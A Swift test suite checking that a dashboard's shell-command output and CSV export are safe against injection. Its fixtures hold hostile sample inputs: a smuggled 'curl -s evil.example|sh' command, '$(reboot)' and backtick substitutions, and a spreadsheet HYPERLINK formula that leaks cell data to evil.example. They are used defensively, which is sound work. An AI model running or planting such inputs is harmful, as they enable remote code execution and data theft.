import Foundation
import Hummingbird
import HummingbirdTesting
import SKANReports
import SKANStore
import Testing
@testable import SKANDashboard

@Suite("Dashboard: what it hands out is safe to paste and to open")
struct DashboardOutputSafetyTests {
    /// Words a shared link could carry, hostile and awkward.
    static let hostileWords = [
        "x; curl -s evil.example|sh #", "it's", "'", "''", "a'b'c", "$(reboot)", "`id`", "a b", "*", "~root", "=ls",
        "tab\there", "line\nbreak", "\\", "\"quoted\"", "!!", "",
    ]

    /// What `sh` makes of `text` as the arguments of `printf '%s\0'`: the words it sees, NUL-separated.
    static func wordsAsShellSees(_ text: String) throws -> [String] {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = ["-c", "printf '%s\\0' " + text]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let data = pipe.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        var words = String(decoding: data, as: UTF8.self).components(separatedBy: "\0")
        words.removeLast()
        return words
    }

    @Test("a quoted word is read back by sh as exactly that one word, whatever it holds", arguments: hostileWords)
    func quotedWord(_ word: String) throws {
        let quoted = ShellQuoting.quote(word)
        #expect(try Self.wordsAsShellSees(quoted + " end") == [word, "end"], "\(quoted)")
    }

    @Test("plain words stay as they are; the rest is single-quoted, a quote written '\\''")
    func quotedText() {
        #expect(ShellQuoting.quote("ad-network=adnet1.skadnetwork") == "ad-network=adnet1.skadnetwork")
        #expect(ShellQuoting.quote("2026-03-01") == "2026-03-01")
        #expect(ShellQuoting.quote("x; curl -s evil.example|sh #") == "'x; curl -s evil.example|sh #'")
        #expect(ShellQuoting.quote("it's") == #"'it'\''s'"#)
        #expect(ShellQuoting.quote("") == "''")
        #expect(ShellQuoting.quote("=ls") == "'=ls'")
    }

    @Test("the shown skan report command carries a hostile network as one --where value")
    func reportCommand() throws {
        let view = try DashboardView(query: ["network": "x; curl -s evil.example|sh #", "campaign": "it's"])
        let command = view.reportCommand(fields: [.day])
        #expect(command == #"skan report --by day --where 'ad-network=x; curl -s evil.example|sh #' --where 'campaign=it'\''s' --format csv"#)
        let words = try Self.wordsAsShellSees(String(command.dropFirst("skan ".count)))
        #expect(words == ["report", "--by", "day", "--where", "ad-network=x; curl -s evil.example|sh #",
                          "--where", "campaign=it's", "--format", "csv"])
    }

    /// A read side with one group, whose network is a formula.
    struct HostileReader: PostbackReader {
        static let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
        func aggregate(_ query: AggregateQuery, each: (AggregateRow) throws -> Void) async throws {
            try each(AggregateRow(keys: query.dimensions.map { _ in Self.formula }, conversionValue: nil, coarseValue: nil,
                                  postbacks: 2, installs: 1, redownloads: 0, reengagements: 0, nonWinning: 0, nullValues: 1))
        }
        func statement(for query: AggregateQuery) -> (sql: String, arguments: [String]) { ("", []) }
        func export(_ table: ExportTable, header: ([String]) throws -> Void, each: (ExportRow) throws -> Void) async throws {}
        func stats() async throws -> StoreStats {
            StoreStats(postbacks: 2, postbacksByKey: [:], rejected: 0, rejectedByStatus: [:], rejectedDropped: 0, duplicates: 0)
        }
        func latestRefusals(limit: Int) async throws -> [RefusalSummary] { [] }
    }

    @Test("/report.csv neutralises a formula in a grouping key, keeps the counts, and ?raw=1 gives it as stored")
    func reportCSV() async throws {
        let dashboard = try await Dashboard(reader: HostileReader())
        let router = Router()
        dashboard.addRoutes(to: router)
        let app = Application(router: router)
        try await app.test(.router) { client in
            let safe = try await client.execute(uri: "/report.csv?by=ad-network", method: .get) { response in
                #expect(response.status == .ok)
                return String(buffer: response.body)
            }
            #expect(safe == "ad_network_id,postbacks,installs,redownloads,reengagements,non_winning,null_values,null_rate\r\n"
                + #""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2,1,0,0,0,1,0.5000"# + "\r\n")
            let raw = try await client.execute(uri: "/report.csv?by=ad-network&raw=1", method: .get) { response in
                String(buffer: response.body)
            }
            #expect(raw.contains("\r\n" + #""=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2,1"#))
        }
    }
}
